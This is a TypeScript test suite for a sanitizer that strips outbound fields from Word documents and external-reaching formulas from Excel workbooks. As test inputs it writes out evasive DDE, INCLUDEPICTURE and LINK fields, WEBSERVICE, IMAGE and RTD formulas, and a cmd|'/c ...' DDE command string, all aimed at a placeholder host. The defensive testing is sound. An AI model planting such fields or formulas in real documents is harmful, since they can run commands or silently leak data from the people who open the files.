import assert from 'node:assert/strict';
import { test } from 'node:test';
import { areFieldsQuiet, areFormulasQuiet } from '../../scrub/documents/checks/ooxmlFetchCheck.ts';
import { cleanDocument, findingLines, partsOf, scrubDocument } from './documentScrubbing.ts';
import { ooxmlFile, rels } from './files/ooxmlFile.ts';
import { paragraph, run, wordFile } from './files/wordFile.ts';

const mark = (type: string) => `<w:r><w:fldChar w:fldCharType="${type}"/></w:r>`;
const said = (...pieces: string[]) => pieces.map((piece) => run(piece, 'instrText')).join('');
const field = (instruction: string, result: string) =>
  mark('begin') + instruction + mark('separate') + run(result) + mark('end');
const documentOf = async (body: string) =>
  partsOf(await cleanDocument(wordFile(paragraph(body)))).get('word/document.xml') ?? '';
const bare = (xml: string) => xml.replace(/<[^>]*>/g, '');

for (const [name, body] of [
  ['split over runs', field(said(' INCL', 'UDEPICTURE "http://', 'PLANTED/" \\d'), 'shown')],
  ['behind a brace', field(said(' { INCLUDEPICTURE "http://PLANTED/" } '), 'shown')],
  ['spelled as text', field(run(' INCLUDEPICTURE "http://PLANTED/"'), 'shown')],
  ['within a harmless one', field(said(' IF ') + field(said('DDE PLANTED'), 'x') + said(' = 1'), 'shown')],
  ['named by another one', field(field(said('QUOTE INCLUDEPICTURE'), 'PAGE') + said(' PLANTED'), 'shown')],
  ['simple', `<w:fldSimple w:instr=" LINK Excel.Sheet PLANTED ">${run('shown')}</w:fldSimple>`],
  ['a link', field(said(' HYPERLINK "http://PLANTED/"'), 'shown')],
  [
    'never ended, in a simple one',
    `<w:fldSimple w:instr=" PAGE ">${mark('begin')}${said('LINK PLANTED')}${run('shown')}</w:fldSimple>`,
  ],
] as const) {
  test(`a field that reaches out goes and what it showed stays: ${name}`, async () => {
    const document = await documentOf(body);
    assert.equal(bare(document).trim(), 'shown');
    assert.doesNotMatch(document, /PLANTED|fldChar|instrText/);
    assert.equal(areFieldsQuiet(body), false, 'and the second parser sees it');
    assert.equal(areFieldsQuiet(document), true);
  });
}

test('fields that count and point within the document stay', async () => {
  const fields = [
    ' PAGE ',
    ' TOC \\o "1-3" \\h ',
    ' REF _Ref1 \\h ',
    ' HYPERLINK \\l "_Toc1" ',
    ' = 1 + 2 ',
    ' IF 1 = 1 "a" "b" ',
  ];
  const document = await documentOf(fields.map((instruction) => field(said(instruction), 'shown')).join(''));
  for (const instruction of fields) assert.ok(document.includes(`>${instruction}</w:instrText>`), instruction);
});

test('what fields say of the writer and the file goes; names that were merged are told', async () => {
  const body =
    field(said(' FILENAME \\p '), 'C:\\Users\\PLANTED\\a.docx') +
    field(said(' AUTHOR '), 'PLANTED Kim') +
    field(said(' MERGEFIELD Name '), 'Lee');
  const document = await documentOf(body);
  assert.equal(bare(document).trim(), 'Lee');
  const lines = findingLines(await scrubDocument(wordFile(paragraph(body))));
  for (const line of ['person path C:\\Users\\PLANTED\\a.docx', 'person author PLANTED Kim', 'person names Lee']) {
    assert.ok(lines.includes(line), `${line} in ${lines.join('\n')}`);
  }
});

test('addresses in VML go, wherever they stand', async () => {
  const document = await documentOf(
    '<w:r><w:pict><v:shape id="a" href="http://PLANTED/" style="width:9pt;background:url(http://PLANTED/)">' +
      '<v:imagedata src="http://PLANTED/a.png" o:althref="http://PLANTED/b"/></v:shape></w:pict></w:r>' +
      run('shown'),
  );
  assert.match(document, /<v:shape id="a"><v:imagedata\/><\/v:shape>/);
  assert.doesNotMatch(document, /PLANTED/);
});

const workbook = (cells: string, names = '') => {
  const main = 'http://schemas.openxmlformats.org/spreadsheetml/2006/main';
  const r = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships';
  return ooxmlFile('xl/workbook.xml', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml', {
    'xl/workbook.xml': `<workbook xmlns="${main}" xmlns:r="${r}"><sheets><sheet name="S" sheetId="1" r:id="rId1"/></sheets>${names}</workbook>`,
    'xl/_rels/workbook.xml.rels': rels(['rId1', 'worksheet', 'worksheets/a.xml']),
    'xl/worksheets/a.xml': `<worksheet xmlns="${main}"><sheetData><row r="1">${cells}</row></sheetData></worksheet>`,
  });
};
const cell = (formula: string) => `<c r="A1"><f>${formula}</f><v>5</v></c>`;
const sheetOf = async (cells: string) =>
  partsOf(await cleanDocument(workbook(cells))).get('xl/worksheets/sheet1.xml') ?? '';

for (const formula of [
  'IMAGE("http://PLANTED/")',
  '_xlfn.WEBSERVICE("http://PLANTED/"&amp;A1)',
  'IMA<!-- -->GE("http://PLANTED/")',
  '<![CDATA[RTD("PLANTED",,"a")]]>',
  '\'a"b\'!A1&amp;WEBSERVICE("PLANTED")',
  '_xlfn.LET(_xlpm.f,WEBSERVICE,_xlpm.f("PLANTED"))',
  "cmd|'/c PLANTED'!A0",
  "'C:\\Users\\PLANTED\\[b.xlsx]S'!A1",
  "'https://PLANTED/[b.xlsx]S'!A1",
  '[PLANTED.xlsx]S!A1',
  'HYPERLINK("C:\\Users\\PLANTED\\b","x")',
]) {
  test(`a cell keeps its value without a formula that reaches out: ${formula}`, async () => {
    assert.match(await sheetOf(cell(formula)), /<c r="A1"><v>5<\/v><\/c>/);
  });
}

test('formulas within the workbook stay, and so do those of numbered workbooks', async () => {
  const cells = [
    'SUM(A2:A9)',
    '[1]S!A1',
    'Table1[[#All],[Name]]',
    "'My image'!A1",
    'IF(A2="a|b",1,2)',
    'HYPERLINK("https://example.org/","x")',
  ];
  const sheet = await sheetOf(cells.map(cell).join(''));
  for (const formula of cells) assert.ok(sheet.includes(`<f>${formula}</f>`), formula);
});

test('cells that share a formula lose it together', async () => {
  const shared =
    '<c r="A1"><f t="shared" ref="A1:A2" si="0">IMAGE("http://PLANTED/")</f><v>5</v></c><c r="A2"><f t="shared" si="0"/><v>6</v></c>';
  assert.match(await sheetOf(shared), /<c r="A1"><v>5<\/v><\/c><c r="A2"><v>6<\/v><\/c>/);
});

test("a workbook's own place, as a cell computed it, goes with the formula", async () => {
  const place =
    '<c r="A1" t="str"><f>CELL("filename")</f><v>C:\\Users\\PLANTED\\[b.xlsx]S</v></c><c r="B1"><v>7</v></c>';
  assert.match(await sheetOf(place), /<c r="A1" t="str"><v\/><\/c><c r="B1"><v>7<\/v><\/c>/);
});

test('a defined name that reaches out leads nowhere', async () => {
  const names = '<definedNames><definedName name="n">WEBSERVICE("http://PLANTED/")</definedName></definedNames>';
  const parts = partsOf(await cleanDocument(workbook('<c r="A1"><f>n</f><v>1</v></c>', names)));
  assert.match(parts.get('xl/workbook.xml') ?? '', /<definedName name="n">#REF!<\/definedName>/);
});

test('the second parser knows formulas that reach out', () => {
  for (const formula of ['IMAGE("x")', 'a+RTD(1)', "'C:\\a\\[b.xlsx]S'!A1"])
    assert.equal(areFormulasQuiet(`<f>${formula}</f>`), false);
  assert.equal(areFormulasQuiet('<f>SUM(A1)</f>'), true);
});
